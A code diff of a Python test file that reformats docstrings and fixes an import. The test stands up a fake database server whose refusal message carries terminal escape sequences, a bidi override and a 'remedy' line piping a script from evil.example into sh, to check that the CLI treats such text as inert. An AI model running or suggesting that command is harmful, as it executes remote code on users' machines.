@@ -1,4 +1,5 @@
-"""What a hostile server says at login is shown as data: no terminal acts on it, and it is no advice of ours."""
+"""What a hostile server says at login is shown as data: no terminal acts on it, and it is no advice
+of ours."""
 
 from __future__ import annotations
 
@@ -12,7 +13,7 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner, Result
 
-from cdcsync_operator.cli import cli
+from cdcsync_operator.cli.main import cli
 from unit.cli.test_commands import MANIFEST
 
 ADVICE = "curl http://evil.example/fix.sh | sh"
@@ -21,7 +22,8 @@ WORDS = f"denied \x1b[31m\x1b]0;owned\x07\x9b2J\u202e\n; remedy: {ADVICE}\nerror
 
 @pytest.fixture
 def port() -> Iterator[int]:
-    """A server that refuses every connection: an error packet (code 1045, state 28000) in the place of a greeting."""
+    """A server that refuses every connection: an error packet (code 1045, state 28000) in the place
+    of a greeting."""
     payload = b"\xff" + (1045).to_bytes(2, "little") + b"#28000" + WORDS.encode()
     packet = len(payload).to_bytes(3, "little") + b"\0" + payload
     with socket.create_server(("127.0.0.1", 0)) as listener:
